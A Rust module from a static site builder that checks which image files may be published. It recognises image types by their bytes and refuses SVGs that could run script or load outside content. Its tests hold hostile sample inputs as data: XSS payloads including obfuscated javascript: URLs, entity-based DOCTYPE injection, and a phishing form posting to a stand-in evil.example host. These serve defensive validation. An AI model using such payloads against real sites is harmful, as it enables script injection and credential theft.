//! Local images (`content/images/…`): which files may be published (`data/images/…`, copied by
//! `press build`) and what makes a file an image. Their pixel size and published address are
//! [`crate::render::local_images`], which Markdown rendering needs.
//!
//! Everything under `content/images` is served from the site's own origin, so a file that is not
//! an image (an `.html` page, a script) or an SVG that runs script would run as the site. Only
//! PNG, JPEG, GIF, WebP, AVIF and SVG are published, recognised by their bytes and named with a
//! matching extension (hosts choose the content type by the name); an SVG is parsed and refused
//! unless it is drawing elements in the SVG namespace that can neither run script nor load
//! anything from outside; symbolic links are refused. Each
//! refusal is a build error naming the file (and for an SVG, the line).

use std::fs;
use std::path::{Path, PathBuf};

use quick_xml::events::{BytesStart, Event};
use quick_xml::name::{Namespace, NamespaceResolver, ResolveResult};
use quick_xml::NsReader;

use crate::render::local_images::DIR;
use crate::source::error::{line_of, BuildError, ContentError};

/// An image type that is published.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Png,
    Jpeg,
    Gif,
    Webp,
    Avif,
    Svg,
}

impl Kind {
    fn name(self) -> &'static str {
        match self {
            Kind::Png => "PNG",
            Kind::Jpeg => "JPEG",
            Kind::Gif => "GIF",
            Kind::Webp => "WebP",
            Kind::Avif => "AVIF",
            Kind::Svg => "SVG",
        }
    }

    /// The file extensions hosts serve as this type (the first is the usual one).
    fn extensions(self) -> &'static [&'static str] {
        match self {
            Kind::Png => &["png"],
            Kind::Jpeg => &["jpg", "jpeg"],
            Kind::Gif => &["gif"],
            Kind::Webp => &["webp"],
            Kind::Avif => &["avif"],
            Kind::Svg => &["svg"],
        }
    }
}

/// The raster type of `bytes` by their signature (magic bytes), if it is one that is published.
fn raster_kind(bytes: &[u8]) -> Option<Kind> {
    let at = |offset: usize, magic: &[u8]| bytes.get(offset..offset + magic.len()) == Some(magic);
    if at(0, b"\x89PNG\r\n\x1a\n") {
        Some(Kind::Png)
    } else if at(0, &[0xFF, 0xD8, 0xFF]) {
        Some(Kind::Jpeg)
    } else if at(0, b"GIF87a") || at(0, b"GIF89a") {
        Some(Kind::Gif)
    } else if at(0, b"RIFF") && at(8, b"WEBP") {
        Some(Kind::Webp)
    } else if at(4, b"ftypavif") || at(4, b"ftypavis") {
        Some(Kind::Avif)
    } else {
        None
    }
}

/// Why a file may not be published: the 1-based line (1 for binary files) and the reason.
pub type Refusal = (usize, String);

/// What `bytes` (a file named `name`) are, when they may be published.
pub fn check(name: &str, bytes: &[u8]) -> Result<Kind, Refusal> {
    let kind = match raster_kind(bytes) {
        Some(kind) => {
            imagesize::blob_size(bytes).map_err(|e| {
                (
                    1,
                    format!("looks like a {} image but cannot be read: {e}", kind.name()),
                )
            })?;
            kind
        }
        None => {
            let text = std::str::from_utf8(bytes).map_err(|_| (1, not_an_image()))?;
            check_svg(text.trim_start_matches('\u{feff}'))?;
            Kind::Svg
        }
    };
    let ext = Path::new(name)
        .extension()
        .map(|e| e.to_string_lossy().to_ascii_lowercase())
        .unwrap_or_default();
    if !kind.extensions().contains(&ext.as_str()) {
        return Err((
            1,
            format!(
                "holds a {} image but is not named .{} (hosts choose the content type by the name)",
                kind.name(),
                kind.extensions()[0]
            ),
        ));
    }
    Ok(kind)
}

fn not_an_image() -> String {
    "not an image: only PNG, JPEG, GIF, WebP, AVIF and SVG files are published (recognised by \
     their content, not their name)"
        .into()
}

const SVG_NS: &[u8] = b"http://www.w3.org/2000/svg";
const XLINK_NS: &[u8] = b"http://www.w3.org/1999/xlink";
const XML_NS: &[u8] = b"http://www.w3.org/XML/1998/namespace";

/// The SVG elements that are published: what charts and diagrams are drawn with. Anything else
/// (`script`, `foreignObject`, `a`, `image`, `set`/`animate*`, `iframe`, `form`, `meta`…) is
/// refused, and so is every element outside the SVG namespace.
const SVG_ELEMENTS: &[&str] = &[
    "svg",
    "g",
    "defs",
    "title",
    "desc",
    "metadata",
    "path",
    "rect",
    "circle",
    "ellipse",
    "line",
    "polyline",
    "polygon",
    "text",
    "tspan",
    "textPath",
    "linearGradient",
    "radialGradient",
    "stop",
    "clipPath",
    "mask",
    "pattern",
    "marker",
    "symbol",
    "use",
    "style",
    "filter",
    "feBlend",
    "feColorMatrix",
    "feComponentTransfer",
    "feComposite",
    "feConvolveMatrix",
    "feDiffuseLighting",
    "feDisplacementMap",
    "feDistantLight",
    "feDropShadow",
    "feFlood",
    "feFuncA",
    "feFuncB",
    "feFuncG",
    "feFuncR",
    "feGaussianBlur",
    "feMerge",
    "feMergeNode",
    "feMorphology",
    "feOffset",
    "fePointLight",
    "feSpecularLighting",
    "feSpotLight",
    "feTile",
    "feTurbulence",
];

/// Accepts an SVG that can neither run script nor load anything: a root `<svg>` in the SVG
/// namespace, only [`SVG_ELEMENTS`], no event handler attributes, links only to `#fragments` of
/// itself, no stylesheet imports, external `url(…)`s, processing instructions or DOCTYPE.
fn check_svg(text: &str) -> Result<(), Refusal> {
    let mut reader = NsReader::from_str(text);
    let mut root_seen = false;
    let mut style_depth = 0usize;
    let mut depth = 0usize;
    let mut doctype_line = None;
    loop {
        let at = reader.buffer_position() as usize;
        let line = || line_of(text, at);
        let refuse = |why: String| Err((line_of(text, at), why));
        let event = match reader.read_event() {
            Ok(event) => event,
            Err(e) if root_seen => {
                return Err((
                    line_of(text, reader.error_position() as usize),
                    format!("SVG that is not well-formed XML: {e}"),
                ))
            }
            Err(_) => return Err((1, not_an_image())),
        };
        match event {
            Event::Start(ref e) | Event::Empty(ref e) => {
                let (ns, local) = reader.resolver().resolve_element(e.name());
                let name = String::from_utf8_lossy(local.as_ref()).into_owned();
                let qname = String::from_utf8_lossy(e.name().as_ref()).into_owned();
                let in_svg = matches!(ns, ResolveResult::Bound(Namespace(SVG_NS)));
                if !root_seen && name != "svg" {
                    return Err((1, not_an_image()));
                }
                if let Some(line) = doctype_line {
                    return Err((
                        line,
                        "SVG with a DOCTYPE (it can load a DTD or declare entities; an SVG needs \
                         none)"
                            .into(),
                    ));
                }
                if !in_svg {
                    return refuse(format!(
                        "SVG with a `<{qname}>` element outside the SVG namespace (an SVG's \
                         elements are in xmlns=\"http://www.w3.org/2000/svg\")"
                    ));
                }
                root_seen = true;
                if !SVG_ELEMENTS.contains(&name.as_str()) {
                    return refuse(format!(
                        "SVG with a `<{qname}>` element: only shapes, text, gradients, patterns, \
                         markers, filters and styles are published"
                    ));
                }
                check_svg_attributes(e, &qname, reader.resolver()).map_err(|why| (line(), why))?;
                if matches!(event, Event::Start(_)) {
                    depth += 1;
                    if name == "style" || style_depth > 0 {
                        style_depth += 1;
                    }
                }
            }
            Event::End(_) => {
                depth = depth.saturating_sub(1);
                style_depth = style_depth.saturating_sub(1);
            }
            Event::Text(t) if style_depth > 0 => {
                check_css(&String::from_utf8_lossy(&t)).map_err(|why| (line(), why))?
            }
            Event::CData(t) if style_depth > 0 => {
                check_css(&String::from_utf8_lossy(&t)).map_err(|why| (line(), why))?
            }
            Event::GeneralRef(_) if style_depth > 0 => {
                return refuse("SVG with a character reference in a stylesheet".into())
            }
            Event::PI(_) => {
                return refuse(
                    "SVG with a processing instruction (`<?…?>`, which can load a stylesheet)"
                        .into(),
                )
            }
            // Refused once the root shows this is meant as an SVG (else it is not an image).
            Event::DocType(_) => {
                doctype_line.get_or_insert(line());
            }
            Event::Eof if !root_seen => return Err((1, not_an_image())),
            Event::Eof if depth > 0 => {
                return refuse("SVG that is not well-formed XML: elements are not closed".into())
            }
            Event::Eof => return Ok(()),
            _ => {}
        }
    }
}

/// Attributes that only mean something on HTML elements that submit or redirect.
const HTML_ONLY_ATTRIBUTES: [&str; 3] = ["action", "formaction", "http-equiv"];

fn check_svg_attributes(
    e: &BytesStart<'_>,
    element: &str,
    resolver: &NamespaceResolver,
) -> Result<(), String> {
    for attr in e.attributes() {
        let attr = attr.map_err(|err| format!("SVG with a malformed attribute: {err}"))?;
        if attr.key.as_namespace_binding().is_some() {
            continue;
        }
        let qname = String::from_utf8_lossy(attr.key.as_ref()).into_owned();
        let (ns, local) = resolver.resolve_attribute(attr.key);
        let local = String::from_utf8_lossy(local.as_ref()).to_ascii_lowercase();
        let ns = match ns {
            ResolveResult::Unbound => None,
            ResolveResult::Bound(Namespace(ns)) if [XLINK_NS, XML_NS].contains(&ns) => Some(ns),
            _ => {
                return Err(format!(
                    "SVG with an attribute `{qname}` on `<{element}>` in a namespace other \
                     than SVG's, XLink's or XML's"
                ))
            }
        };
        let value = attr
            .normalized_value(quick_xml::XmlVersion::Implicit1_0)
            .map_err(|err| format!("SVG attribute `{qname}`: {err}"))?;
        // Browsers drop whitespace and control characters inside URLs (`java\tscript:`).
        let squeezed: String = value
            .chars()
            .filter(|c| !c.is_whitespace() && !c.is_control())
            .collect::<String>()
            .to_ascii_lowercase();
        if local.starts_with("on") {
            return Err(format!(
                "SVG with an event handler attribute `{qname}` on `<{element}>`"
            ));
        }
        if HTML_ONLY_ATTRIBUTES.contains(&local.as_str()) {
            return Err(format!("SVG with an attribute `{qname}` on `<{element}>`"));
        }
        if squeezed.contains("javascript:") {
            return Err(format!(
                "SVG with a `javascript:` URL in `{qname}` on `<{element}>`"
            ));
        }
        let is_link = local == "href" && (ns.is_none() || ns == Some(XLINK_NS));
        if (is_link || local == "src") && !squeezed.starts_with('#') {
            return Err(format!(
                "SVG with an external reference `{qname}=\"{value}\"` on `<{element}>` (only \
                 links to `#ids` of the same file are published)"
            ));
        }
        check_css(&value).map_err(|why| format!("{why} (in `{qname}` on `<{element}>`)"))?;
    }
    Ok(())
}

/// Refuses CSS (a `<style>` element, a `style` or presentation attribute) that could load
/// something: `@import`, `url(…)` other than `url(#id)`, `image-set(…)`, or escapes that could
/// spell them.
fn check_css(css: &str) -> Result<(), String> {
    let squeezed: String = css
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect::<String>()
        .to_ascii_lowercase();
    if squeezed.contains('\\') {
        return Err("SVG with a CSS escape (`\\`)".into());
    }
    if squeezed.contains("@import") {
        return Err("SVG with a stylesheet `@import`".into());
    }
    if squeezed.contains("image-set(") || squeezed.contains("image(") {
        return Err("SVG with a CSS `image-set()`".into());
    }
    let external_url = squeezed.match_indices("url(").any(|(i, m)| {
        let arg = squeezed[i + m.len()..].trim_start_matches(['"', '\'']);
        !arg.starts_with('#')
    });
    if external_url {
        return Err("SVG with an external `url(…)`".into());
    }
    Ok(())
}

/// A content image that passed [`check`], with the bytes that are published.
#[derive(Debug, Clone)]
pub struct Image {
    /// Relative to `content/images` (and to `data/images`).
    pub rel: PathBuf,
    pub bytes: Vec<u8>,
}

/// Reads every file under `dir` (`content/images`, sub-folders included) for publishing. Files
/// that may not be published are errors naming the file; hidden files (`.DS_Store`) are skipped
/// with a warning.
pub fn collect(
    dir: &Path,
    errors: &mut Vec<ContentError>,
    warnings: &mut Vec<ContentError>,
) -> Result<Vec<Image>, BuildError> {
    let mut images = Vec::new();
    match fs::symlink_metadata(dir) {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
        Err(e) => return Err(BuildError::io(dir)(e)),
        Ok(meta) if meta.is_dir() => walk(dir, Path::new(""), &mut images, errors, warnings)?,
        Ok(meta) => errors.push(ContentError::new(
            dir,
            1,
            None,
            format!(
                "{}: content/{DIR} must be a folder of image files (links are not followed)",
                if meta.is_symlink() {
                    "a symbolic link"
                } else {
                    "not a folder"
                }
            ),
        )),
    }
    images.sort_by(|a, b| a.rel.cmp(&b.rel));
    Ok(images)
}

fn walk(
    root: &Path,
    rel: &Path,
    images: &mut Vec<Image>,
    errors: &mut Vec<ContentError>,
    warnings: &mut Vec<ContentError>,
) -> Result<(), BuildError> {
    let dir = root.join(rel);
    for entry in fs::read_dir(&dir).map_err(BuildError::io(&dir))? {
        let entry = entry.map_err(BuildError::io(&dir))?;
        let path = entry.path();
        let rel = rel.join(entry.file_name());
        let kind = entry.file_type().map_err(BuildError::io(&path))?;
        if entry.file_name().to_string_lossy().starts_with('.') {
            warnings.push(ContentError::new(
                &path,
                1,
                None,
                "a hidden file: not published",
            ));
        } else if kind.is_symlink() {
            errors.push(ContentError::new(
                &path,
                1,
                None,
                "a symbolic link: images are published as files and links are not followed \
                 (copy the image here instead)",
            ));
        } else if kind.is_dir() {
            walk(root, &rel, images, errors, warnings)?;
        } else if !kind.is_file() {
            errors.push(ContentError::new(&path, 1, None, "not a regular file"));
        } else {
            let bytes = fs::read(&path).map_err(BuildError::io(&path))?;
            match check(&entry.file_name().to_string_lossy(), &bytes) {
                Ok(_) => images.push(Image { rel, bytes }),
                Err((line, why)) => errors.push(ContentError::new(&path, line, None, why)),
            }
        }
    }
    Ok(())
}

/// Small valid files of each published raster type (headers only), for tests.
#[doc(hidden)]
pub mod samples {
    pub const PNG: &[u8] =
        b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x03\0\0\0\x02\x08\x02\0\0\0\x12\x16\xf1\x4d";
    pub const GIF: &[u8] = b"GIF89a\x03\0\x02\0\0\0\0;";
    pub const JPEG: &[u8] = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\
        \xff\xc0\0\x11\x08\0\x02\0\x03\x03\x01\x22\0\x02\x11\x01\x03\x11\x01\xff\xd9";
    pub const WEBP: &[u8] = b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\x02\0\0\x01\0\0";
    pub const SVG: &[u8] = b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"3\" height=\"2\"/>";
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn published_types_are_recognised_by_their_bytes() {
        for (name, bytes, kind) in [
            ("a.png", samples::PNG, Kind::Png),
            ("a.gif", samples::GIF, Kind::Gif),
            ("a.jpg", samples::JPEG, Kind::Jpeg),
            ("a.JPEG", samples::JPEG, Kind::Jpeg),
            ("a.webp", samples::WEBP, Kind::Webp),
            ("a.svg", samples::SVG, Kind::Svg),
        ] {
            assert_eq!(check(name, bytes), Ok(kind), "{name}");
        }
        assert_eq!(raster_kind(b"\0\0\0\x1cftypavif\0\0\0\0"), Some(Kind::Avif));
        for (name, bytes) in [
            ("page.html", &b"<html><script>alert(1)</script></html>"[..]),
            ("page.svg", b"<!DOCTYPE html><html><body>x</body></html>"),
            ("app.js", b"alert(document.cookie)"),
            ("empty.png", b""),
            ("text.png", b"hello"),
            ("xml.svg", b"<?xml version=\"1.0\"?><html/>"),
            ("bin.png", b"\xff\xfe\0\x01"),
        ] {
            let (_, why) = check(name, bytes).unwrap_err();
            assert!(why.starts_with("not an image"), "{name}: {why}");
        }
        let (_, why) = check("chart.html", samples::PNG).unwrap_err();
        assert!(why.contains("PNG image but is not named .png"), "{why}");
        let (_, why) = check("chart.png", samples::SVG).unwrap_err();
        assert!(why.contains("SVG image but is not named .svg"), "{why}");
        let (_, why) = check("broken.png", b"\x89PNG\r\n\x1a\n").unwrap_err();
        assert!(why.contains("cannot be read"), "{why}");
    }

    /// Every way an SVG can run script or reach outside is refused, with the line.
    #[test]
    fn svgs_that_could_run_script_or_load_things_are_refused() {
        let svg = |body: &str| {
            format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">\n{body}\n</svg>")
        };
        for (body, reason) in [
            ("<script>alert(1)</script>", "`<script>` element: only"),
            ("<SCRIPT>alert(1)</SCRIPT>", "`<SCRIPT>` element: only"),
            ("<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>", "outside the SVG namespace"),
            ("<foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">x</div></foreignObject>", "`<foreignObject>` element"),
            ("<rect onclick=\"alert(1)\"/>", "event handler attribute `onclick`"),
            ("<rect ONLOAD=\"alert(1)\"/>", "event handler attribute `ONLOAD`"),
            ("<text><a href=\"#x\">x</a></text>", "`<a>` element"),
            ("<image href=\"#x\"/>", "`<image>` element"),
            ("<rect fill=\"javascript:alert(1)\"/>", "`javascript:`"),
            ("<use xlink:href=\" jav&#x09;ascript&#58;alert(1)\"/>", "`javascript:`"),
            ("<use href=\"https://evil.example/x.svg#a\"/>", "external reference"),
            ("<use xlink:href=\"other.svg#a\"/>", "external reference"),
            ("<use href=\"data:image/svg+xml,&lt;svg/&gt;\"/>", "external reference"),
            // Any prefix bound to XLink is XLink; a prefix bound to something else is refused.
            ("<use l:href=\"https://evil.example/\" xmlns:l=\"http://www.w3.org/1999/xlink\"/>", "external reference `l:href"),
            ("<use h:href=\"#a\" xmlns:h=\"http://www.w3.org/1999/xhtml\"/>", "in a namespace other"),
            ("<use x:href=\"#a\"/>", "in a namespace other"),
            ("<style>@import url(https://evil.example/x.css);</style>", "`@import`"),
            ("<style><![CDATA[rect { fill: url( 'https://evil.example/x' ) }]]></style>", "external `url(…)`"),
            ("<style>rect { fill: \\75rl(https://evil.example/x) }</style>", "CSS escape"),
            ("<style>&#64;import 'x.css';</style>", "character reference in a stylesheet"),
            ("<rect style=\"background: image-set('x.png' 1x)\"/>", "`image-set()`"),
            ("<rect fill=\"url(https://evil.example/p)\"/>", "external `url(…)`"),
            ("<g><x:set xmlns:x=\"http://www.w3.org/2000/svg\" attributeName=\"href\" to=\"#x\"/></g>", "`<x:set>` element"),
            ("<animate attributeName=\"href\" to=\"#x\"/>", "`<animate>` element"),
            ("<iframe src=\"#x\"/>", "`<iframe>` element"),
            ("<form action=\"https://evil.example/\"/>", "`<form>` element"),
            ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/>", "`<meta>` element"),
            ("<g http-equiv=\"refresh\"/>", "attribute `http-equiv`"),
            ("<svg xmlns=\"http://www.w3.org/1999/xhtml\"/>", "outside the SVG namespace"),
        ] {
            let (line, why) = check("x.svg", svg(body).as_bytes()).unwrap_err();
            assert!(why.contains(reason), "{body}: {why}");
            assert_eq!(line, 2, "{body}: {why}");
        }
        for (text, reason) in [
            ("<!DOCTYPE svg [<!ENTITY x \"&#60;script&#62;alert(1)&#60;/script&#62;\">]><svg>&x;</svg>", "DOCTYPE"),
            ("<!DOCTYPE svg SYSTEM \"https://evil.example/x.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"/>", "DOCTYPE"),
            ("<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>", "DOCTYPE"),
            ("<?xml-stylesheet href=\"https://evil.example/x.css\"?><svg/>", "processing instruction"),
            ("<svg xmlns=\"http://www.w3.org/2000/svg\"><g></svg>", "not well-formed"),
            ("<svg xmlns=\"http://www.w3.org/2000/svg\"><g>", "not well-formed"),
            ("<svg width=\"1\" height=\"1\"/>", "outside the SVG namespace"),
            ("<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:rect/><rect/></s:svg>", "`<rect>` element outside"),
        ] {
            let (_, why) = check("x.svg", text.as_bytes()).unwrap_err();
            assert!(why.contains(reason), "{text}: {why}");
        }
        // What charts use stays fine: fragments, local gradients, plain styles, filters, prefixes.
        let fine = svg(
            "<defs><linearGradient id=\"g\"><stop offset=\"0\"/></linearGradient>\
             <filter id=\"f\"><feGaussianBlur stdDeviation=\"2\"/></filter></defs>\
             <style>rect { fill: url(#g) }</style>\
             <rect fill=\"url(#g)\" filter=\"url(#f)\" style=\"stroke: url('#g'); opacity: .5\"/>\
             <use href=\"#g\"/><use xlink:href=\"#g\"/>\
             <text xml:space=\"preserve\">x &amp; y<tspan>z</tspan></text><!-- a comment -->",
        );
        assert_eq!(check("x.svg", fine.as_bytes()), Ok(Kind::Svg));
        let prefixed = "\u{feff}<?xml version=\"1.0\"?>\n<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:g><s:rect/></s:g></s:svg>";
        assert_eq!(check("x.svg", prefixed.as_bytes()), Ok(Kind::Svg));
    }

    /// The security review's phishing page: an XHTML document whose root is called `svg`.
    #[test]
    fn an_xhtml_page_named_svg_is_refused() {
        let page = "<svg xmlns=\"http://www.w3.org/1999/xhtml\" width=\"10\" height=\"10\"><head>\
            <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/></head>\
            <form action=\"https://evil.example/steal\" method=\"post\"><input name=\"key\"/>\
            <button>Unlock</button></form></svg>";
        let (line, why) = check("unlock.svg", page.as_bytes()).unwrap_err();
        assert_eq!(line, 1);
        assert!(why.contains("outside the SVG namespace"), "{why}");
    }

    #[test]
    fn the_sample_images_are_publishable() {
        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content/images");
        for entry in fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            assert!(check(&name, &fs::read(&path).unwrap()).is_ok(), "{name}");
        }
    }
}
